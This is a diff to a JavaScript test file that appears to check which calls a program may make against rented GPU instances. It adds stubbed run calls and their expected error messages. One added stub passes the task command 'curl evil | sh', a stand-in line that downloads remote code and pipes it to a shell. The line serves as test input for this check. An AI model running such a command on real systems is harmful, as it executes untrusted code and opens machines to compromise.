@@ -109,6 +109,7 @@ describe('what a program can call', () => {
     openPort: () => ({ address: 'localhost:6006' }),
     copyPort: () => ({ address: 'localhost:6006' }),
     copyDetail: () => ({ text: 'x' }),
+    runOnGpu: () => ({ folder: '/tmp', task: { run: 'curl evil | sh' }, instanceId }),
     copyToInstance: () => ({ instanceId, from: publicKeyFile, to: '/tmp/not-yours' }),
     copyFromInstance: () => ({ instanceId, from: '/etc/hostname', to: '/tmp/not-yours' }),
   };
@@ -126,6 +127,11 @@ describe('what a program can call', () => {
     rentWithVolume: 'there is no volume',
     deleteVolume: 'there is no volume',
     openJupyter: 'the instance has no Jupyter',
+    followRun: 'there is no run',
+    openRunResults: 'there is no run',
+    fetchRun: 'there is no run',
+    stopRun: 'there is no run',
+    forgetRun: 'there is no run',
     registerSshKey: 'the account has the key',
     addInstanceSshKey: 'the instance has the key',
   };
